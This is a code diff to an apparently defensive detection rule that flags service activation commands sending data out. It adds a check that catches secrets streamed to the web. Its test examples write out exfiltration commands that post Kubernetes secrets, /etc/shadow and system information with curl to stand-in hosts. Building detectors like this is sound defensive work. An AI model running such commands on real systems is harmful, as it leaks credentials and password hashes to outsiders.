@@ -1,4 +1,5 @@
 import type { ClosureCommand } from "../inventory/closure.ts";
+import type { Behaviour } from "../programs/program.ts";
 import { shipped, timed } from "./example-host.ts";
 import type { ActivationRule } from "./rule.ts";
 import { accuse, baseName, behavioursOfKind, isPackagedPlace } from "./subject.ts";
@@ -26,7 +27,9 @@ export const sendsDataOut: ActivationRule = {
   *check(activation, inventory) {
     for (const { behaviour, command } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
       const isOrdinary =
-        (behaviour.confidence === "low" || ORDINARY.test(behaviour.says)) && !describesHost(command);
+        (behaviour.confidence === "low" || ORDINARY.test(behaviour.says)) &&
+        !describesHost(command) &&
+        !carriesSecrets(behaviour);
       if (isOrdinary || isPackagedPlace(behaviour.span.path, activation, inventory)) continue;
       yield accuse(behaviour, inventory);
     }
@@ -34,6 +37,9 @@ export const sendsDataOut: ActivationRule = {
 
   examples: {
     fires: [
+      timed(
+        "ExecStart=/bin/sh -c 'kubectl get secrets -A -o json | gzip | curl -s -d @- https://c.example.test/'",
+      ),
       timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
     ],
@@ -46,6 +52,17 @@ export const sendsDataOut: ActivationRule = {
     ],
   },
 };
+
+/** Keys and passwords in a stream to the web; backups of them go over ssh or through a backup program. */
+function carriesSecrets({ detail: { sent, program = "" }, says }: Behaviour): boolean {
+  return (
+    sent === "secrets" &&
+    !/^(ssh|autossh|scp|sftp|rsync|rclone|mail|mailx|sendmail)$/.test(program) &&
+    !COPIES.test(says)
+  );
+}
+
+const COPIES = / mails | copies files to /;
 
 /** Mail, copies over ssh, and what a pipe computed: how backups, certificates and metrics travel. */
 const ORDINARY = / mails | copies files to | the content of - /;
